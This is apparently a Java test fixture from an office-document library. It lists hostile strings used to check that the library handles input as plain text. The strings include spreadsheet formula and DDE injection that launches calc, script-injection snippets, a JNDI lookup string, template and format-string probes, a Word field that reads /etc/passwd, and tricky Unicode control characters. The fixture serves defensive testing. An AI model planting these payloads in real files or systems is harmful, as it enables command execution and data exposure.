package org.accede.paper.office;

import java.util.stream.Stream;

/** Texts that would do harm if they were taken for anything but text. */
final class Hostile {

    static final String LONG = "0123456789 ".repeat(10_000);

    private Hostile() {}

    static Stream<String> texts() {
        return Stream.of(
                "=HYPERLINK(\"http://example.org\",\"here\")",
                "+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(A1:A9)",
                "\t=1+1",
                "  =1+1",
                "'=1+1",
                "\uff1d1+1",
                "_x003D_1+1 and _x000D_",
                "<script>alert(1)</script> & <w:p/> ]]> &amp; <!--",
                "<a href=\"javascript:1\">x</a>",
                "bell \u0007 null \u0000 escape \u001b[31m tab\there",
                "bidi \u202eevil\u202c \u2066x\u2069 zero \u200b\ufeff",
                "line\nbreak\r\nand \u2028 \u2029 \u0085",
                "broken \ud800 half, none \ufffe\uffff",
                "beyond \ud83d\ude00 \ud835\udd4f",
                "${jndi:ldap://example.org/a} {{7*7}} %s %n",
                "PAGE \\* MERGEFORMAT INCLUDETEXT \"/etc/passwd\"",
                "&P &F &[File] &24",
                "[x]:*?/\\ 'name'",
                "history",
                "unbroken".repeat(600));
    }
}
